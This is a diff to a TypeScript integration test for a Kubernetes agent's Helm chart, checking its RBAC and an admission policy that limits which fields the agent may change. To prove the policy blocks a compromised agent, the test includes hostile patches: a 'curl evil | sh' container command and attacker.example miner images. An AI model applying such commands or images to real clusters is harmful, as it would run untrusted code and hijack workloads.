@@ -1,10 +1,11 @@
 /**
  * The chart's RBAC is enough, and no more: the real agent runs in-process with a token of the
  * chart's ServiceAccount (TokenRequest) and nothing else, completes cordon, drain, scale and a
- * hibernation sleep/wake, and the same identity is refused what the agent never does.
+ * hibernation sleep/wake, and the same identity is refused what the agent never does. The
+ * chart's ValidatingAdmissionPolicy is installed too (the real API server evaluates its CEL):
+ * it lets the hibernation through and denies the same identity a pod-template patch.
  */
-import { execFileSync } from 'node:child_process';
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import {
@@ -19,19 +20,16 @@ import {
   setHeaderOptions,
 } from '@kubernetes/client-node';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { stringify } from 'yaml';
 import { agentNamespaceLabel } from '../../src/controllers/hibernation/controller.ts';
 import { installCrds } from '../../src/crds/install.ts';
-import { chartDir } from '../../src/packaging/chart.ts';
 import { type AgentStack, startAgentStack } from '../support/agent.ts';
+import { type ChartIdentity, installChartIdentity } from '../support/chart-identity.ts';
 import {
-  clusterBinDir,
   createKwokNodes,
   createNamespace,
   deleteNamespace,
   deleteNodes,
   loadTestKubeConfig,
-  testKubeconfigPath,
   uniqueName,
   waitFor,
   waitForDeploymentReady,
@@ -45,39 +43,9 @@ const batch = kc.makeApiClient(BatchV1Api);
 const custom = kc.makeApiClient(CustomObjectsApi);
 const schedulesApi = { group: 'clusteropt.io', version: 'v1alpha1', plural: 'hibernationschedules' };
 
-/** A kubeconfig that authenticates as the ServiceAccount with a bound token (TokenRequest). */
-async function serviceAccountKubeconfig(
-  namespace: string,
-  serviceAccount: string,
-  dir: string,
-): Promise<string> {
-  const request = await core.createNamespacedServiceAccountToken({
-    name: serviceAccount,
-    namespace,
-    body: { spec: { audiences: [], expirationSeconds: 3600 } },
-  });
-  const cluster = kc.getCurrentCluster();
-  if (!cluster?.caData) throw new Error('the test kubeconfig has no inline CA');
-  const path = join(dir, 'sa.kubeconfig');
-  writeFileSync(
-    path,
-    stringify({
-      apiVersion: 'v1',
-      kind: 'Config',
-      clusters: [
-        { name: 'test', cluster: { server: cluster.server, 'certificate-authority-data': cluster.caData } },
-      ],
-      users: [{ name: serviceAccount, user: { token: request.status?.token } }],
-      contexts: [{ name: 'sa', context: { cluster: 'test', user: serviceAccount, namespace } }],
-      'current-context': 'sa',
-    }),
-    { mode: 0o600 },
-  );
-  return path;
-}
-
 describe('the agent with exactly the chart RBAC', () => {
   const release = uniqueName('rbac');
+  let identity: ChartIdentity | undefined;
   const serviceAccount = `${release}-clusteropt-agent`;
   const group = uniqueName('rbac-grp');
   const nodes = [uniqueName('rbac'), uniqueName('rbac')];
@@ -87,32 +55,15 @@ describe('the agent with exactly the chart RBAC', () => {
   let workloads = '';
   let saKubeconfig = '';
   let stack: AgentStack | undefined;
-  const helmEnv = () => ({ ...process.env, KUBECONFIG: testKubeconfigPath() });
 
   beforeAll(async () => {
     await installCrds(kc);
     ns = await createNamespace(kc, 'rbac-agent');
     workloads = await createNamespace(kc, 'rbac-wl');
-    // The release's RBAC and ServiceAccount only: no agent pods (replicas 0), the agent under
-    // test runs in this process with the ServiceAccount's token.
-    execFileSync(
-      join(clusterBinDir(), 'helm'),
-      [
-        'install',
-        release,
-        chartDir,
-        '--namespace',
-        ns,
-        '--set',
-        'replicas=0',
-        '--set',
-        'controlPlane.url=https://api.clusteropt.example',
-        '--set',
-        'apiKey.existingSecret=unused',
-      ],
-      { env: helmEnv(), stdio: 'pipe' },
-    );
-    saKubeconfig = await serviceAccountKubeconfig(ns, serviceAccount, dir);
+    // The release's RBAC and ServiceAccount only: no agent pods, the agent under test runs in
+    // this process with the ServiceAccount's token.
+    identity = await installChartIdentity(kc, { release, namespace: ns, dir });
+    saKubeconfig = identity.kubeconfigPath;
     await createKwokNodes(kc, nodes, { labels: { 'clusteropt.io/group': group } });
     stack = await startAgentStack({ namespace: ns, config: { kubeconfig: saKubeconfig } });
     await waitFor(() => stack?.agent.isLeader(), {
@@ -125,14 +76,7 @@ describe('the agent with exactly the chart RBAC', () => {
     await stack?.stop();
     await custom.deleteClusterCustomObject({ ...schedulesApi, name: schedule }).catch(() => undefined);
     await deleteNodes(kc, nodes);
-    try {
-      execFileSync(join(clusterBinDir(), 'helm'), ['uninstall', release, '-n', ns, '--wait'], {
-        env: helmEnv(),
-        stdio: 'pipe',
-      });
-    } catch {
-      // namespace deletion below removes what is left; the ClusterRole is the release's
-    }
+    identity?.uninstall();
     await deleteNamespace(kc, ns);
     await deleteNamespace(kc, workloads);
     rmSync(dir, { recursive: true, force: true });
@@ -329,6 +273,97 @@ describe('the agent with exactly the chart RBAC', () => {
     ).rejects.toMatchObject({ code: 403 });
   });
 
+  it("the admission policy holds the agent's ServiceAccount to the fields it owns", async () => {
+    const sa = new KubeConfig();
+    sa.loadFromFile(saKubeconfig);
+    const saApps = sa.makeApiClient(AppsV1Api);
+    const saBatch = sa.makeApiClient(BatchV1Api);
+    const patch = setHeaderOptions('Content-Type', PatchStrategy.MergePatch);
+    await apps.createNamespacedDeployment({
+      namespace: workloads,
+      body: {
+        metadata: { name: 'guarded', labels: { app: 'guarded' } },
+        spec: {
+          replicas: 1,
+          selector: { matchLabels: { app: 'guarded' } },
+          template: {
+            metadata: { labels: { app: 'guarded' } },
+            spec: { containers: [{ name: 'app', image: 'registry.invalid/app:1' }] },
+          },
+        },
+      },
+    });
+    const patchDeployment = (body: object, client = saApps) =>
+      client.patchNamespacedDeployment({ name: 'guarded', namespace: workloads, body }, patch);
+    const denied = expect.objectContaining({
+      body: expect.stringMatching(/ValidatingAdmissionPolicy .*owned-fields.* denied request/),
+    });
+    // Code execution by a compromised agent: a new image, a new command.
+    const template = (container: object) => ({
+      spec: { template: { spec: { containers: [{ name: 'app', ...container }] } } },
+    });
+    await expect(patchDeployment(template({ image: 'attacker.example/miner:1' }))).rejects.toEqual(denied);
+    await expect(
+      patchDeployment(template({ image: 'registry.invalid/app:1', command: ['sh', '-c', 'curl evil | sh'] })),
+    ).rejects.toEqual(denied);
+    await expect(patchDeployment({ spec: { replicas: 50 } })).rejects.toEqual(denied);
+    await expect(patchDeployment({ metadata: { annotations: { team: 'x' } } })).rejects.toEqual(denied);
+    // Removing an admin's do-not-disrupt is not the agent's to do either.
+    await apps.patchNamespacedDeployment(
+      {
+        name: 'guarded',
+        namespace: workloads,
+        body: { metadata: { annotations: { 'clusteropt.io/do-not-disrupt': 'true' } } },
+      },
+      patch,
+    );
+    await expect(
+      patchDeployment({ metadata: { annotations: { 'clusteropt.io/do-not-disrupt': null } } }),
+    ).rejects.toEqual(denied);
+    // What the agent does pass: its own marks, and replicas through /scale.
+    await patchDeployment({
+      metadata: {
+        annotations: {
+          'clusteropt.io/hibernation-restore': '{"schedule":"s","replicas":1,"at":"2026-01-01T00:00:00Z"}',
+        },
+        labels: { 'clusteropt.io/hibernated-by': 's' },
+      },
+    });
+    // (read and replace, as the agent does: RBAC grants update on /scale, not patch)
+    const scale = await saApps.readNamespacedDeploymentScale({ name: 'guarded', namespace: workloads });
+    await saApps.replaceNamespacedDeploymentScale({
+      name: 'guarded',
+      namespace: workloads,
+      body: { ...scale, spec: { replicas: 0 } },
+    });
+    await patchDeployment({
+      metadata: {
+        annotations: { 'clusteropt.io/hibernation-restore': null },
+        labels: { 'clusteropt.io/hibernated-by': null },
+      },
+    });
+    const after = await apps.readNamespacedDeployment({ name: 'guarded', namespace: workloads });
+    expect(after.spec?.replicas).toBe(0);
+    expect(after.spec?.template.spec?.containers[0]?.image).toBe('registry.invalid/app:1');
+    // An admin (not the agent) is not held by it.
+    await patchDeployment(template({ image: 'registry.invalid/app:2' }), apps);
+    // CronJobs: spec.suspend passes, the schedule or the job template does not.
+    const cron = (body: object) =>
+      saBatch.patchNamespacedCronJob({ name: 'report', namespace: workloads, body }, patch);
+    await cron({ spec: { suspend: true } });
+    await cron({ spec: { suspend: false } });
+    await expect(cron({ spec: { schedule: '* * * * *' } })).rejects.toEqual(denied);
+    await expect(
+      cron({
+        spec: {
+          jobTemplate: {
+            spec: { template: { spec: { containers: [{ name: 'r', image: 'attacker.example/x' }] } } },
+          },
+        },
+      }),
+    ).rejects.toEqual(denied);
+  });
+
   it('authorizes exactly the documented verbs (SubjectAccessReview)', async () => {
     const user = `system:serviceaccount:${ns}:${serviceAccount}`;
     const can = async (
@@ -361,6 +396,7 @@ describe('the agent with exactly the chart RBAC', () => {
       ['create', 'pods', { subresource: 'eviction', namespace: workloads }],
       ['update', 'deployments', { group: 'apps', subresource: 'scale', namespace: workloads }],
       ['patch', 'cronjobs', { group: 'batch', namespace: workloads }],
+      ['update', 'statefulsets', { group: 'apps', subresource: 'scale', namespace: workloads }],
       ['list', 'horizontalpodautoscalers', { group: 'autoscaling' }],
       ['watch', 'namespaces', {}],
       ['patch', 'hibernationschedules', { group: 'clusteropt.io', subresource: 'status' }],
@@ -376,6 +412,8 @@ describe('the agent with exactly the chart RBAC', () => {
       ['update', 'nodes', {}],
       ['create', 'nodes', {}],
       ['get', 'pods', { namespace: workloads }],
+      // Only with rbac.forceDeleteAtBudgetEnd (off by default): drains evict, never delete.
+      ['delete', 'pods', { namespace: workloads }],
       ['create', 'pods', { subresource: 'exec', namespace: workloads }],
       ['update', 'deployments', { group: 'apps', namespace: workloads }],
       ['delete', 'deployments', { group: 'apps', namespace: workloads }],
